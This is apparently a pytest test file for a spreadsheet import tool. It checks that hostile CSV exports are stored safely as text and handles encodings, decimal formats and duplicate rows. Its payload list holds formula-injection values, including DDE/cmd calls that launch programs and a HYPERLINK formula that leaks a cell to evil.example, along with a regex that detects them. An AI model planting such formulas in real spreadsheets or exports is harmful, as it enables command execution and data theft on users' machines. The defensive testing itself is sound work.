"""Import actuals with hostile exports: formula injection, encodings, separators, duplicates.

Three paths, the same promises (imported text is never a formula; nothing is appended twice):

- the importer (:mod:`xlpmo.io.importer`) on CSV files: payloads such as ``=cmd|' /C calc'!A0``
  (and ``+``, ``-``, ``@``, tab and CR prefixes) stay the very same text; a payload in an
  amount column is not a number (the row is left out and reported with its row number);
  UTF-8 with a BOM, Windows-1252 with ``€`` and accents, semicolons with decimal commas;
  importing the same file twice adds nothing;
- an import written into a workbook file (``xlpmo import``: the package writer) and then
  refreshed:
  in the saved xlsx every payload cell is a string cell, never an ``<f>``, and reads back as
  exactly the imported text;
- the Import actuals command on an xlwings Book (xlwings' own server code, as xlwings Lite runs
  it; see test_udfs_server.py): every payload is written with Excel's text prefix (the
  apostrophe) and ends up in tblActuals once, after importing twice.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
import xlsxwriter
from helpers.exports import add_table
from lxml import etree

from xlpmo.app.pipeline import refresh_file
from xlpmo.cli import main
from xlpmo.errors import XlpmoError
from xlpmo.io import importer
from xlpmo.io.reader import read_workbook

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=1+1",
    "'=already quoted",
    "=WEBSERVICE(\"http://127.0.0.1/\")",
]
PREFIXED = ["\t=1+1", "\r=2+2", " =3+3"]  # whitespace first: IDs are trimmed, then protected
DANGEROUS = re.compile(r"cmd|HYPERLINK|DDE|WEBSERVICE|evil|calc", re.IGNORECASE)
MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def csv_bytes(rows: list[list[Any]], delimiter: str = ",", encoding: str = "utf-8") -> bytes:
    buf = io.StringIO()
    csv.writer(buf, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return buf.getvalue().encode(encoding)


def injection_export() -> list[list[Any]]:
    rows: list[list[Any]] = [["Project Code", "Posting Date", "Cost Category", "Amount (EUR)"]]
    for i, text in enumerate([*PAYLOADS, *PREFIXED]):
        rows.append([text, f"2026-{i % 6 + 1:02d}-15", text, f"{(i + 1) * 10}.50"])
    rows.append(["P1", "2026-01-20", "Labour", "=1+1"])  # a payload where a number belongs
    rows.append(["P1", "2026-01-21", "Labour", "@SUM(A1)"])
    return rows


@pytest.fixture
def export_file(tmp_path: Path) -> Path:
    path = tmp_path / "finance_export.csv"
    path.write_bytes(csv_bytes(injection_export()))
    return path


# -- the importer ------------------------------------------------------------------------------


def test_payloads_stay_the_same_text(export_file: Path) -> None:
    prepared = importer.prepare(importer.read_export(export_file))
    assert prepared.target == "tblActuals"
    ids = prepared.rows["ProjectID"].tolist()
    assert ids[: len(PAYLOADS)] == PAYLOADS
    assert ids[len(PAYLOADS):] == [p.strip() for p in PREFIXED]
    assert prepared.rows["CostType"].tolist() == ids
    assert all(isinstance(v, str) for v in ids)
    # payloads in the amount column: left out and reported (header = row 1)
    n = len(PAYLOADS) + len(PREFIXED)
    assert prepared.skipped == [(n + 2, "Actual is blank or unreadable ('=1+1')"),
                                (n + 3, "Actual is blank or unreadable ('@SUM(A1)')")]


@pytest.mark.parametrize("text", [*PAYLOADS, *PREFIXED[:2], "-5", "0042", "2026-01-15",
                                  "TRUE", "#N/A", "12%"])
def test_protect_text_keeps_every_payload_text(text: str) -> None:
    protected = importer.protect_text(text)
    assert protected == "'" + text  # Excel's text prefix: not part of the value
    assert importer.protect_text("Labour") == "Labour"
    assert importer.protect_text(" =3+3") == " =3+3"  # Excel keeps a leading space as text


def test_utf8_with_bom(tmp_path: Path) -> None:
    path = tmp_path / "export.csv"
    rows = [["Project", "Month", "Cost Type", "Amount"], ["Ünïcødé-1", "2026-01", "Büro", "10"]]
    path.write_bytes(b"\xef\xbb\xbf" + csv_bytes(rows))
    export = importer.read_export(path)
    assert list(export.columns) == rows[0]  # no BOM glued to the first header
    prepared = importer.prepare(export)
    assert prepared.rows["ProjectID"].tolist() == ["Ünïcødé-1"]
    assert prepared.rows["CostType"].tolist() == ["Büro"]


def test_windows_1252_with_euro_and_accents(tmp_path: Path) -> None:
    path = tmp_path / "export.csv"
    rows = [["Projet", "Période", "Catégorie", "Montant €"],
            ["Société-1", "2026-02", "Matériel €", "1200.75"]]
    path.write_bytes(csv_bytes(rows, encoding="cp1252"))
    with pytest.raises(UnicodeDecodeError):
        path.read_bytes().decode("utf-8")
    export = importer.read_export(path)
    assert list(export.columns) == rows[0]
    mapped = export.rename(columns={"Projet": "Project", "Période": "Period",
                                    "Catégorie": "Category", "Montant €": "Amount"})
    prepared = importer.prepare(mapped)
    assert prepared.rows.to_dict("records") == [{
        "ProjectID": "Société-1", "Period": pd.Timestamp("2026-02-01"),
        "CostType": "Matériel €", "Actual": 1200.75}]


def test_semicolons_and_decimal_commas(tmp_path: Path) -> None:
    path = tmp_path / "export.csv"
    rows = [["Project", "Month", "Category", "Amount"],
            ["P1", "2026-01", "Labour", "1.234,50"], ["P1", "2026-02", "Labour", "12,5"],
            ["P2", "2026-02", "Travel", "-0,75"], ["P2", "2026-03", "Travel", "(1.000,00)"],
            ["P3", "2026-03", "Travel", "7"]]
    path.write_bytes(csv_bytes(rows, delimiter=";", encoding="cp1252"))
    prepared = importer.prepare(importer.read_export(path))
    assert prepared.rows["Actual"].tolist() == [1234.5, 12.5, -0.75, -1000.0, 7.0]


def test_mixed_decimal_conventions_are_refused(tmp_path: Path) -> None:
    path = tmp_path / "export.csv"
    rows = [["Project", "Month", "Amount"], ["P1", "2026-01", "12,5"], ["P2", "2026-01", "3.75"]]
    path.write_bytes(csv_bytes(rows, delimiter=";"))
    with pytest.raises(XlpmoError, match="mixes decimal commas"):
        importer.prepare(importer.read_export(path))


def test_undecodable_bytes_are_a_clear_refusal(tmp_path: Path) -> None:
    path = tmp_path / "export.csv"
    path.write_bytes(b"Project,Amount\r\nP\x81\x8d\x8f\x90\x9d,1\r\n")  # not UTF-8 nor cp1252
    with pytest.raises(XlpmoError, match="neither UTF-8 nor Windows-1252"):
        importer.read_export(path)


def test_importing_twice_adds_nothing_and_duplicates_are_counted(export_file: Path,
                                                                 tmp_path: Path) -> None:
    rows = injection_export()
    rows.append(rows[1])  # the same posting twice in one export: both are real postings
    export_file.write_bytes(csv_bytes(rows))
    prepared = importer.prepare(importer.read_export(export_file))
    assert prepared.repeated == [len(rows)]  # reported by its row number (header = row 1)
    path = contract_book(tmp_path / "Tracker.xlsx")
    assert import_into_file(path, export_file) == len(prepared.rows)
    assert import_into_file(path, export_file) == 0  # "nothing new ... nothing was changed"
    ids = [r[0] for r in read_workbook(path).tables["tblActuals"].rows]
    assert ids.count(PAYLOADS[0]) == 2


# -- imported into a workbook file, then refreshed ----------------------------------------------


def contract_book(path: Path) -> Path:
    wb = xlsxwriter.Workbook(str(path))

    def table(sheet: str, name: str, rows: list[list[Any]]) -> None:
        add_table(wb, sheet, name, rows, date_format="yyyy-mm-dd")

    table("Config", "tblConfig", [["Setting", "Value"], ["StatusDate", "2026-06-30"]])
    table("Projects", "tblProjects", [["ProjectID", "ProjectName", "BAC"], ["P1", "Alpha", 1000]])
    table("Plan", "tblPlan", [["ProjectID", "Period", "Planned"],
                              *[["P1", dt.datetime(2026, m, 1), 100.0] for m in range(1, 11)]])
    table("Actuals", "tblActuals", [["ProjectID", "Period", "CostType", "Actual"],
                                    ["P1", dt.datetime(2026, 1, 1), "Labour", 90.0]])
    wb.close()
    return path


def import_into_file(path: Path, export: Path) -> int:
    """``xlpmo import`` of the export into the workbook file's long tblActuals (saved
    safely); returns the number of rows added. Exit 1: the export's two postings with a
    formula for an amount (``=1+1``, ``@SUM(A1)``) are left out, and the exit says so."""
    before = len(read_workbook(path).tables["tblActuals"])
    assert main(["import", str(path), str(export), "--quiet", "--no-backup"]) == 1
    return len(read_workbook(path).tables["tblActuals"]) - before


def sheet_cells(path: Path) -> list[tuple[str, str, str | None, bool]]:
    """(part, ref, text, has a formula) of every cell of every worksheet."""
    out = []
    with zipfile.ZipFile(path) as z:
        shared: list[str] = []
        if "xl/sharedStrings.xml" in z.namelist():
            sst = etree.fromstring(z.read("xl/sharedStrings.xml"))
            shared = ["".join(si.itertext()) for si in sst.iter(f"{{{MAIN_NS}}}si")]
        for name in z.namelist():
            if not (name.startswith("xl/worksheets/") and name.endswith(".xml")):
                continue
            root = etree.fromstring(z.read(name))
            for c in root.iter(f"{{{MAIN_NS}}}c"):
                t = c.get("t")
                v = c.find(f"{{{MAIN_NS}}}v")
                text = None
                if t == "inlineStr":
                    text = "".join(c.find(f"{{{MAIN_NS}}}is").itertext())
                elif t == "s" and v is not None:
                    text = shared[int(v.text)]
                elif t == "str" and v is not None:
                    text = v.text or ""
                has_f = c.find(f"{{{MAIN_NS}}}f") is not None
                out.append((name, c.get("r"), text, has_f))
    return out


def unescape(text: str) -> str:
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m[1], 16)), text)


def test_imported_text_is_a_string_cell_in_the_saved_workbook(tmp_path: Path,
                                                              export_file: Path) -> None:
    path = contract_book(tmp_path / "Tracker.xlsx")
    expected = [*PAYLOADS, *(p.strip() for p in PREFIXED)]
    assert import_into_file(path, export_file) == len(expected)
    result = refresh_file(path, backup=False)
    assert result.written
    # read back: the very text, in tblActuals and as the IDs of tblVariance / tblChecks
    book = read_workbook(path)
    ids = [r[0] for r in book.tables["tblActuals"].rows]
    assert ids[1:] == expected
    assert [r[2] for r in book.tables["tblActuals"].rows][1:] == expected
    unknown = [r[3] for r in book.tables["tblChecks"].rows if "not in tblProjects" in r[3]]
    assert any(PAYLOADS[0] in m for m in unknown)
    # the package: every payload cell is a string cell; no formula anywhere carries one
    cells = sheet_cells(path)
    found: dict[str, int] = {}
    for part, ref, text, has_f in cells:
        if has_f:
            assert not (text and DANGEROUS.search(text)), (part, ref, text)
        if text is not None and unescape(text) in expected:
            assert not has_f, f"{part}!{ref} holds {text!r} as a formula"
            found[unescape(text)] = found.get(unescape(text), 0) + 1
    assert set(found) == set(expected)
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                for f in etree.fromstring(z.read(name)).iter(f"{{{MAIN_NS}}}f"):
                    assert not DANGEROUS.search(f.text or ""), (name, f.text)
    # the same file imported again appends nothing
    before = len(read_workbook(path).tables["tblActuals"])
    assert import_into_file(path, export_file) == 0
    assert len(read_workbook(path).tables["tblActuals"]) == before


# -- the Import actuals command on an xlwings Book -----------------------------------------------


def test_import_actuals_command_writes_payloads_as_text_once(tmp_path: Path) -> None:
    pytest.importorskip("xlwings")
    import openpyxl
    from helpers.xlwings_server import _table, book_payload, records, run_server, written_values

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Config"
    _table(ws, "tblConfig", [["Setting", "Value"], ["StatusDate", dt.datetime(2026, 6, 30)]])
    _table(wb.create_sheet("Projects"), "tblProjects", [["ProjectID", "ProjectName"],
                                                        ["P1", "Alpha"]])
    _table(wb.create_sheet("Plan"), "tblPlan", [["ProjectID", "Period", "Planned"],
                                                ["P1", dt.datetime(2026, 1, 1), 100]])
    _table(wb.create_sheet("Actuals"), "tblActuals", [
        ["ProjectID", "Period", "CostType", "Actual"],
        ["P1", dt.datetime(2026, 1, 1), "Labour", 90]])
    sheet = wb.create_sheet("Import")  # the export pasted as text, as Excel keeps it
    for r, row in enumerate(injection_export(), start=1):
        for c, value in enumerate(row, start=1):
            cell = sheet.cell(r, c, value)
            cell.data_type = "s"
    path = tmp_path / "pmo.xlsx"
    wb.save(path)
    [run] = run_server([{"kind": "scripts", "payload": book_payload(str(path)),
                         "steps": [{"script": "import_actuals"},
                                   {"script": "import_actuals"}]}])
    for step in run["steps"]:
        assert "exception" not in step, step
    expected = [*PAYLOADS, *(p.strip() for p in PREFIXED)]
    rows = records(run["payload"], "tblActuals")
    ids = [r["ProjectID"] for r in rows]
    assert ids == ["P1", *expected], ids  # once each, after importing twice
    assert [r["CostType"] for r in rows][1:] == expected
    written = [v for v in written_values(run) if isinstance(v, str)]
    for payload in expected:  # each needs Excel's text prefix, and got it
        assert payload not in written, f"{payload!r} written without its text prefix"
        assert "'" + payload in written


@pytest.mark.parametrize(("text", "comma", "amount"), [
    ("1,200.50", False, 1200.5), ("(100)", False, -100.0), ("-5", False, -5.0),
    ("£12", False, 12.0), ("12 EUR", False, 12.0), ("EUR 12", False, 12.0),
    ("100-", False, -100.0), ("-£12", False, -12.0), ("1.5E+05", False, 150000.0),
    ("1.234,50", True, 1234.5), ("(1.234,50 €)", True, -1234.5), ("12,5", True, 12.5),
    ("@SUM(A1)", False, None), ("=1+1", False, None), ("12%", False, None),
    ("abc123", False, None), ("1+1", False, None), ("", False, None), ("nan", False, None),
    ("inf", False, None),
])
def test_an_amount_is_a_number_and_nothing_else(text: str, comma: bool,
                                                amount: float | None) -> None:
    """'@SUM(A1)' was imported as 1, '12%' as 12, '100-' as +100, '1.234,50' as 1.2345."""
    assert importer.to_amount(text, comma) == amount
